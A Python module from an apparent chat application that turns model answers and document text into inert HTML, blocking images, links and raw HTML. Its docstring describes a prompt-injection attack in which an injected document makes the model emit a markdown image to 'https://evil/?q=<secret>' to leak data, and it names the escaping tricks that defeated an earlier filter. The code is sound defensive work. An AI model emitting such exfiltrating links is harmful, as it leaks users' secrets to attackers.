"""Turn untrusted text (model answers, document snippets, file names) into inert HTML.

Owner: the UI layer. Invariant: nothing we hand the browser can load a resource or navigate
anywhere by itself: no `<img>`, no `<a href>`, no `style`, no event attribute, no raw HTML of
the model's or a document's. A prompt-injected document can make the model write
`![x](https://evil/?q=<secret>)`, and the browser would fetch that image at once (OWASP LLM05,
issue 12 item 1). The previous regex filter was bypassed with escaped backticks, escaped brackets
and backtick runs of different lengths, so the text is now parsed by a real CommonMark parser
(markdown-it-py) and the result cleaned by a real sanitiser (nh3, i.e. ammonia) with an
allow-list that has no URL-bearing element at all. The CSP (core/security_headers.py) is the
second wall should either of them ever miss.

The render chain matters as much as the HTML: the Chatbot is built with `render_markdown=False`,
so Gradio's browser side puts our HTML into the DOM after its own (weaker) sanitiser and never
re-parses it as markdown (`marked` would otherwise see literal `![x](...)` in a text node that
came from an escaped source and turn it back into an image). `gr.Markdown` does parse markdown,
so text shown there goes through `inline_markdown`, which escapes every markdown character.
"""

from __future__ import annotations

import html
import re
from collections.abc import Sequence

import nh3
from markdown_it import MarkdownIt
from markdown_it.token import Token

# No a/img/iframe/...: nothing in this set can hold a URL the browser would follow or fetch.
ALLOWED_TAGS = {
    "p", "br", "hr", "strong", "em", "del", "s", "code", "pre", "blockquote",
    "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES: dict[str, set[str]] = {"ol": {"start"}}
IMAGE_REMOVED = "[image removed]"
ELLIPSIS = "…"
# CommonMark lets any ASCII punctuation be backslash-escaped, so escaping all of it is safe
# whatever the renderer's extensions (tables, strikethrough, Gradio's `$$` LaTeX delimiters).
# `&`, `<` and `>` become entities instead: a backslash does not stop an HTML parser.
_MD_PUNCTUATION = re.compile(r"([!-%'-/:=?@\[-`{-~])")


def _render_image(
    renderer: object, tokens: Sequence[Token], idx: int, options: object, env: object
) -> str:
    # The alt text stays readable; the URL is never shown or fetched.
    alt = "".join(child.content for child in tokens[idx].children or [])
    label = f"{IMAGE_REMOVED[:-1]}: {alt}]" if alt.strip() else IMAGE_REMOVED
    return html.escape(label)


def _render_link_open(
    renderer: object, tokens: Sequence[Token], idx: int, options: object, env: object
) -> str:
    # Links become their text: no click can send a conversation anywhere.
    return ""


def _render_link_close(
    renderer: object, tokens: Sequence[Token], idx: int, options: object, env: object
) -> str:
    return ""


# Render rules are bound to the renderer as methods (markdown-it's `add_render_rule`).
def _build_parser() -> MarkdownIt:
    # html=False: raw HTML from the model or a document is shown as text, never as markup.
    # linkify stays off, so bare URLs stay text.
    parser = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    parser.enable(["table", "strikethrough"])
    parser.add_render_rule("image", _render_image)
    parser.add_render_rule("link_open", _render_link_open)
    parser.add_render_rule("link_close", _render_link_close)
    return parser


_PARSER = _build_parser()


def sanitize_html(markup: str) -> str:
    """Keep only the allow-listed tags; drop every attribute but `<ol start>`, every URL."""
    return nh3.clean(
        markup,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes=set(),
        strip_comments=True,
        link_rel=None,
    )


def answer_html(text: str) -> str:
    """Markdown (an answer, a question, a partial answer while streaming) as inert HTML.

    Code blocks and spans keep their text exactly (a `<div>` inside a fence reads as `<div>`);
    an unclosed fence while streaming runs to the end, as CommonMark says.
    """
    return sanitize_html(_PARSER.render(text or ""))


def _one_line(text: str, limit: int) -> str:
    line = " ".join((text or "").split())
    return line if len(line) <= limit else line[: limit - 1] + ELLIPSIS


def inline_text(text: str, limit: int = 300) -> str:
    """One line of untrusted text (a file name, a snippet) for HTML: shortened, escaped."""
    return html.escape(_one_line(text, limit))


def inline_markdown(text: str, limit: int = 300) -> str:
    """One line of untrusted text for a markdown component (`gr.Markdown`): no markup survives."""
    line = html.escape(_one_line(text, limit), quote=False)
    return _MD_PUNCTUATION.sub(r"\\\1", line)
